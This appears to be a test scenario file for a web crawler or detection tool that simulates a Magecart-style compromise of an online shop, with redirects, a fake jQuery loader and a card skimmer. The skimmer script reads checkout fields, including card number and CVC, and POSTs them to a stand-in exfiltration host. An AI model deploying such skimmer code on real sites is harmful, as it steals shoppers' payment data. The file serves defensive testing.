// A compromised web shop (Magecart-style): an ad link redirects twice to the shop; the
// shop's HTML carries one injected script tag from attacker host 1, which loads the
// skimmer from attacker host 2, which POSTs the checkout form to an exfil host.

import { PNG_1x1 } from '../assets.js';
import { bytes, css, js, json, page, redirect, send } from '../respond.js';
import type { Scenario } from '../types.js';

export const SHOP_HOSTS = {
  ad: 'go.shop-deals.test',
  tracker: 'clk.shop-track.test',
  shop: 'www.shop.test',
  attackerLoader: 'cdn.jquery-stats.test',
  attackerSkimmer: 'js.metrics-cdn.test',
  exfil: 'gate.cardexfil.test',
  paymentFrame: 'pay.shop-payments.test',
  chatFrame: 'chat.shop-support.test',
} as const;

const h = SHOP_HOSTS;

const shopPage = page(
  'Acme Outdoor Shop',
  `<header><img src="/img/logo.png" alt="Acme" width="1" height="1"><h1>Acme Outdoor</h1></header>
<section id="products">
  <div class="product"><img src="/img/tent.png" alt="Tent" width="1" height="1"> Tent - 199.00</div>
  <div class="product"><img src="/img/boots.png" alt="Boots" width="1" height="1"> Boots - 89.00</div>
</section>
<form id="checkout" action="/checkout" method="post">
  <input name="name" value="Test Buyer">
  <input name="cardnumber" value="4111111111111111">
  <input name="exp" value="12/30">
  <input name="cvc" value="123">
  <button type="submit">Pay</button>
</form>
<iframe name="payment" src="https://${h.paymentFrame}/widget?merchant=acme" width="300" height="120"></iframe>
<iframe name="support" src="https://${h.chatFrame}/embed?site=acme" width="200" height="120"></iframe>
<script src="/static/app.js"></script>
<script src="https://${h.attackerLoader}/jquery-3.7.1.min.js"></script>`,
  `<link rel="stylesheet" href="/static/shop.css">`,
);

/** The shop's own code: reads its cart from its own API. */
const appJs = `fetch('/api/cart.json').then(function (r) { return r.json(); }).then(function (c) {
  document.title = 'Acme Outdoor Shop (' + c.items + ' in cart)';
});
`;

/** Attacker host 1: pretends to be jQuery, and quietly pulls in the skimmer. */
const loaderJs = `/*! jQuery v3.7.1 | (c) OpenJS Foundation */
window.jQuery = window.$ = function () { return { ready: function (f) { f(); } }; };
(function () {
  var s = document.createElement('script');
  s.src = 'https://${h.attackerSkimmer}/m.js';
  document.head.appendChild(s);
})();
`;

/** Attacker host 2: the skimmer. Sends the checkout fields as text/plain (no preflight). */
const skimmerJs = `(function () {
  var f = document.getElementById('checkout');
  if (!f) return;
  var data = {};
  for (var i = 0; i < f.elements.length; i++) { var e = f.elements[i]; if (e.name) data[e.name] = e.value; }
  fetch('https://${h.exfil}/collect', { method: 'POST', mode: 'no-cors', body: JSON.stringify(data) });
})();
`;

export const shop: Scenario = {
  name: 'shop',
  seed: `http://${h.ad}/summer-sale`,
  loads: [
    `GET http://${h.ad}/summer-sale`,
    `GET http://${h.tracker}/c?campaign=summer&dest=shop`,
    `GET https://${h.shop}/`,
    `GET https://${h.shop}/static/shop.css`,
    `GET https://${h.shop}/static/app.js`,
    `GET https://${h.shop}/api/cart.json`,
    `GET https://${h.shop}/img/logo.png`,
    `GET https://${h.shop}/img/tent.png`,
    `GET https://${h.shop}/img/boots.png`,
    `GET https://${h.paymentFrame}/widget?merchant=acme`,
    `GET https://${h.chatFrame}/embed?site=acme`,
    `GET https://${h.attackerLoader}/jquery-3.7.1.min.js`,
    `GET https://${h.attackerSkimmer}/m.js`,
    `POST https://${h.exfil}/collect`,
  ],
  routes: [
    // No <link rel=icon>: the crawler falls back to /favicon.ico of the landing origin.
    { host: h.shop, path: '/favicon.ico', handler: bytes('image/x-icon', PNG_1x1) },
    { host: h.ad, path: '/summer-sale', handler: redirect(302, `http://${h.tracker}/c?campaign=summer&dest=shop`) },
    { host: h.tracker, path: '/c', handler: redirect(301, `https://${h.shop}/`) },
    { host: h.shop, path: '/', handler: shopPage },
    {
      host: h.shop,
      path: '/static/shop.css',
      handler: css('body { font-family: sans-serif; }\n.product { padding: 4px; }\n'),
    },
    { host: h.shop, path: '/static/app.js', handler: js(appJs) },
    { host: h.shop, path: '/api/cart.json', handler: json({ items: 2 }) },
    { host: h.shop, path: '/img/*', handler: bytes('image/png', PNG_1x1) },
    { host: h.shop, path: '/checkout', handler: page('Order placed', '<p>Thank you</p>') },
    { host: h.attackerLoader, path: '/jquery-3.7.1.min.js', handler: js(loaderJs) },
    { host: h.attackerSkimmer, path: '/m.js', handler: js(skimmerJs) },
    { host: h.exfil, path: '/collect', handler: (_req, res) => send(res, 200, 'text/plain', 'ok\n') },
    { host: h.paymentFrame, path: '/widget', handler: page('Payment widget', '<p>Secure payment</p>') },
    { host: h.chatFrame, path: '/embed', handler: page('Support chat', '<p>Chat with us</p>') },
  ],
};

export const shopScenarios: Scenario[] = [shop];
